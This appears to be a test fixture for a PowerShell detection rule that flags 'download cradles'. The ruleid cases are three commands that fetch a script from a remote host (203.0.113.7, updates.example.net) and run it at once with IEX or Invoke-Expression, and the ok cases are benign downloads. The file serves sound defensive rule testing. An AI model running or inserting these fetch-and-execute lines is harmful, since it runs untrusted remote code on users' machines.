# ruleid: ps-download-cradle-untrusted
IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')
# ruleid: ps-download-cradle-untrusted
iwr -UseBasicParsing $u | iex
# ruleid: ps-download-cradle-untrusted
Invoke-Expression ((New-Object System.Net.WebClient).DownloadString("http://updates.example.net/s"))
# ok: ps-download-cradle-untrusted
Invoke-WebRequest -Uri $url -OutFile "$env:TEMP\setup.msi"
# ok: ps-download-cradle-untrusted
(New-Object Net.WebClient).DownloadFile($url, "report.csv")
# ok: ps-download-cradle-untrusted
Invoke-RestMethod https://api.example.com/items | ConvertTo-Json
# ok: ps-download-cradle-untrusted
Invoke-Expression "Get-Date"
